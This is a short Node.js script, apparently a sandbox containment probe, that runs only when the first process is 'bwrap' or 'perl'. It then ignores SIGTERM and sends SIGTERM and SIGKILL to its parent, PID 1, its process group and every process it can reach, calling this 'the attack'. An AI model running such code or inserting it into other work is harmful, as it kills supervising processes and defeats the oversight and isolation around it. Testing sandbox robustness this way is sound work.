// Kills its parent, its group, the first process, and everything it may. Does nothing outside a sandbox.
import { readFileSync } from 'node:fs';

if (!['bwrap', 'perl'].includes(readFileSync('/proc/1/comm', 'utf8').trim())) { // The first process of a sandbox and of a container.
  console.log('not in a sandbox');
  process.exit(9);
}
process.on('SIGTERM', () => undefined);
for (const target of [process.ppid, 1, 0, -1]) {
  for (const signal of ['SIGTERM', 'SIGKILL']) {
    if (target === 0 && signal === 'SIGKILL') continue; // That would end the attack before it is over.
    try {
      process.kill(target, signal);
      console.log(`${signal} to ${target}`);
    } catch (error) {
      console.log(`${signal} to ${target}: ${error.code}`);
    }
  }
}
